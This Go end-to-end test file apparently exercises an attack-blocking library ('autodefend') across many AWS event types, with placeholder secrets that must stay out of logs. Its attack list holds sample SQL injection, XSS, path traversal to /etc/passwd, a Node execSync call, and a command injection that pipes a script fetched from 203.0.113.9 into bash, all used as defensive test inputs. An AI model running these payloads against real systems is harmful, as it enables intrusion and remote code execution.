//go:build linux

package endtoend

import (
	"encoding/base64"
	"encoding/json"
	"net/url"
	"testing"

	"github.com/autodefend/autodefend"
)

// Secrets that stand in events. None may be in a log.
const (
	bearer   = "opaque-4fKz81Lm"
	jwt      = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiI0MiJ9.c2ln4fKz81Lm"
	apiKey   = "key-77Qw1xBn"
	session  = "sess-0Ypd92Vt"
	token    = "tok-Zr55mDdA"
	password = "pw-Lx20fGkE"
)

// secrets are all of them, with a variable's value of the function's own.
func secrets() []string { return []string{bearer, jwt, apiKey, session, token, password, ownSecret} }

// attack is a text of a class.
type attack struct {
	class autodefend.AttackClass
	text  string
}

func attacks() []attack {
	return []attack{
		{autodefend.ClassSQLi, "42' UNION ALL SELECT user, pass FROM accounts-- -"},
		{autodefend.ClassXSS, `<img src=x onerror=alert(document.domain)>`},
		{autodefend.ClassCMDi, "8.8.8.8; wget http://203.0.113.9/x.sh -O- | bash"},
		{autodefend.ClassCodeInjection, "require('child_process').execSync('id')"},
		{autodefend.ClassLFI, "../../../../../../etc/passwd"},
	}
}

// object is JSON.
type object = map[string]any

// bytesOf is an event.
func bytesOf(t testing.TB, event any) []byte {
	t.Helper()
	text, err := json.Marshal(event)
	if err != nil {
		t.Fatal(err)
	}
	return text
}

// document is a body with a text and secrets.
func document(text string) string {
	inner, _ := json.Marshal(object{"title": text, "password": password, "note": "it is " + ownSecret, "auth": object{"refresh": token}}) // strings
	return string(inner)
}

// headers are those of a client, with the names that the trigger gives them.
func headers(host, contentType string) object {
	return object{
		"host": host, "user-agent": "client/1.2", "accept": "*/*", "content-type": contentType, "authorization": "Bearer " + bearer,
		"x-api-key": apiKey, "x-forwarded-for": "203.0.113.7", "x-note": "jwt " + jwt,
	}
}

// query has an ordinary parameter, a secret one and the text.
func query(text string) string {
	return "page=2&access_token=" + token + "&q=" + url.QueryEscape(text)
}

// trigger makes events that carry a text from a client.
type trigger struct {
	name  string // as audits have it
	about string // what is special, "" when nothing is
	carry func(text string) any
	// answer checks the answer to a refused event.
	answer func(t *testing.T, r refused)
	http   bool // the audit describes an HTTP request
}

func triggers() []trigger {
	return []trigger{
		{name: "apiGateway", carry: rest, answer: forbidden, http: true},
		{name: "httpAPI", carry: httpAPI, answer: forbidden, http: true},
		{name: "functionURL", about: "form", carry: urlForm, answer: forbidden, http: true},
		{name: "functionURL", about: "cookie", carry: urlCookie, answer: forbidden, http: true},
		{name: "alb", carry: balancer, answer: forbiddenByBalancer, http: true},
		{name: "alb", about: "lists", carry: balancerLists, answer: forbiddenByLists, http: true},
		{name: "webSocket", about: "connect", carry: webSocketConnect, answer: forbidden, http: true},
		{name: "webSocket", about: "message", carry: webSocketMessage, answer: forbidden},
		{name: "authorizer", carry: authorizer, answer: denied},
		{name: "authorizer", about: "2.0", carry: authorizer2, answer: denied2},
		{name: "appSync", carry: appSync, answer: failed},
		{name: "sqs", carry: sqs, answer: allComeBack},
		{name: "sns", carry: sns, answer: failed},
		{name: "direct", carry: direct, answer: failed},
	}
}

const apiHost = "a1b2c3.execute-api.us-east-1.amazonaws.com"

func rest(text string) any {
	h := headers(apiHost, "application/json")
	h["cookie"] = "theme=dark; sid=" + session
	lists := object{}
	for name, value := range h {
		lists[name] = []any{value}
	}
	return object{
		"resource": "/items", "path": "/items", "httpMethod": "POST", "headers": h, "multiValueHeaders": lists,
		"queryStringParameters": object{"access_token": token}, "multiValueQueryStringParameters": object{"access_token": []any{token}},
		"pathParameters": nil, "stageVariables": nil, "body": document(text), "isBase64Encoded": false,
		"requestContext": object{
			"resourcePath": "/items", "httpMethod": "POST", "requestId": "g-1", "protocol": "HTTP/1.1", "accountId": "123456789012", "apiId": "a1b2c3",
			"stage": "prod", "domainName": apiHost, "path": "/prod/items", "identity": object{"sourceIp": "203.0.113.7", "userAgent": "client/1.2"},
		},
	}
}

// payload2 is what HTTP APIs and function URLs give.
func payload2(route, host, method, path, rawQuery, contentType string) object {
	return object{
		"version": "2.0", "routeKey": route, "rawPath": path, "rawQueryString": rawQuery, "cookies": []any{"theme=dark", "sid=" + session},
		"headers": headers(host, contentType), "isBase64Encoded": false,
		"requestContext": object{
			"accountId": "123456789012", "apiId": "a1b2c3", "domainName": host, "domainPrefix": "a1b2c3", "requestId": "h-1", "routeKey": route, "stage": "$default",
			"time": "22/Nov/2026:05:00:00 +0000", "timeEpoch": 1795323600000,
			"http": object{"method": method, "path": path, "protocol": "HTTP/1.1", "sourceIp": "203.0.113.7", "userAgent": "client/1.2"},
		},
	}
}

func httpAPI(text string) any {
	return payload2("GET /items", apiHost, "GET", "/items", query(text), "text/plain")
}

// urlRequest is a request to a function URL.
func urlRequest(method, path, contentType, body string) object {
	e := payload2("$default", "abcdefghijklmnopqrstuvwxyz012345.lambda-url.us-east-1.on.aws", method, path, "page=2", contentType)
	if body != "" {
		e["body"] = body
	}
	return e
}

func urlForm(text string) any {
	form := url.Values{"q": {text}, "password": {password}, "note": {ownSecret}}.Encode()
	e := urlRequest("POST", "/items", "application/x-www-form-urlencoded", base64.StdEncoding.EncodeToString([]byte(form)))
	e["isBase64Encoded"] = true
	return e
}

// urlCookie puts the text into a cookie with a secret.
func urlCookie(text string) any {
	e := urlRequest("GET", "/items", "text/plain", "")
	e["cookies"] = []any{"sid=" + url.PathEscape(text+" "+session)}
	return e
}

func balancer(text string) any {
	return object{
		"requestContext": object{"elb": object{"targetGroupArn": "arn:aws:elasticloadbalancing:us-east-1:123456789012:targetgroup/shop/1"}},
		"httpMethod":     "GET", "path": "/items", "headers": headers("shop.example", "text/plain"), "body": "", "isBase64Encoded": false,
		"queryStringParameters": object{"page": "2", "access_token": token, "q": url.QueryEscape(text)},
	}
}

func balancerLists(text string) any {
	lists := object{}
	for name, value := range headers("shop.example", "application/json") {
		lists[name] = []any{value}
	}
	return object{
		"requestContext": object{"elb": object{"targetGroupArn": "arn:aws:elasticloadbalancing:us-east-1:123456789012:targetgroup/shop/1"}},
		"httpMethod":     "POST", "path": "/items", "multiValueHeaders": lists, "body": document(text), "isBase64Encoded": false,
		"multiValueQueryStringParameters": object{"access_token": []any{token}},
	}
}

func socketContext(kind string) object {
	return object{
		"routeKey": "$" + kind, "eventType": kind, "connectionId": "c-1=", "messageId": "m-1", "requestId": "w-1", "apiId": "a1b2c3", "stage": "prod",
		"domainName": apiHost, "identity": object{"sourceIp": "203.0.113.7", "userAgent": "client/1.2"}, "messageDirection": "IN", "extendedRequestId": "w-1",
	}
}

func webSocketConnect(text string) any {
	h := headers(apiHost, "text/plain")
	return object{
		"headers": h, "queryStringParameters": object{"access_token": token, "q": text}, "multiValueQueryStringParameters": object{"access_token": []any{token}, "q": []any{text}},
		"requestContext": socketContext("CONNECT"), "isBase64Encoded": false,
	}
}

func webSocketMessage(text string) any {
	return object{"requestContext": socketContext("MESSAGE"), "body": document(text), "isBase64Encoded": false}
}

const methodARN = "arn:aws:execute-api:us-east-1:123456789012:a1b2c3/prod/GET/items"

func authorizer(text string) any {
	e, _ := rest("").(object)
	delete(e, "body")
	e["type"], e["methodArn"], e["httpMethod"] = "REQUEST", methodARN, "GET"
	e["queryStringParameters"], e["multiValueQueryStringParameters"] = object{"q": text, "access_token": token}, object{"q": []any{text}, "access_token": []any{token}}
	return e
}

func authorizer2(text string) any {
	e, _ := httpAPI(text).(object)
	e["type"], e["routeArn"], e["identitySource"] = "REQUEST", methodARN, []any{bearer}
	return e
}

func appSync(text string) any {
	return object{
		"arguments": object{"input": object{"title": text, "password": password, "note": ownSecret}}, "identity": nil, "source": nil, "prev": nil, "stash": object{},
		"request": object{"headers": headers("x.appsync-api.us-east-1.amazonaws.com", "application/json"), "domainName": nil},
		"info": object{
			"fieldName": "save", "parentTypeName": "Mutation", "variables": object{}, "selectionSetList": []any{"id"}, "selectionSetGraphQL": "{\n  id\n}",
		},
	}
}

func sqs(text string) any {
	record := func(id, body string) object {
		return object{
			"messageId": id, "receiptHandle": "AQEB", "body": body, "attributes": object{"SenderId": "AIDA", "ApproximateReceiveCount": "1"}, "messageAttributes": object{},
			"md5OfBody": "", "eventSource": "aws:sqs", "eventSourceARN": "arn:aws:sqs:us-east-1:123456789012:orders", "awsRegion": "us-east-1",
		}
	}
	return object{"Records": []any{record("m-1", `{"title":"a book"}`), record("m-2", document(text))}}
}

func sns(text string) any {
	return object{"Records": []any{object{
		"EventSource": "aws:sns", "EventVersion": "1.0", "EventSubscriptionArn": "arn:aws:sns:us-east-1:123456789012:orders:1",
		"Sns": object{
			"Type": "Notification", "MessageId": "n-1", "TopicArn": "arn:aws:sns:us-east-1:123456789012:orders", "Subject": "order", "Message": document(text),
			"Timestamp": "2026-11-22T05:00:00.000Z", "MessageAttributes": object{},
		},
	}}}
}

func direct(text string) any {
	return object{"title": text, "password": password, "note": "it is " + ownSecret, "nested": object{"apiKey": apiKey, "header": "Bearer " + bearer}}
}
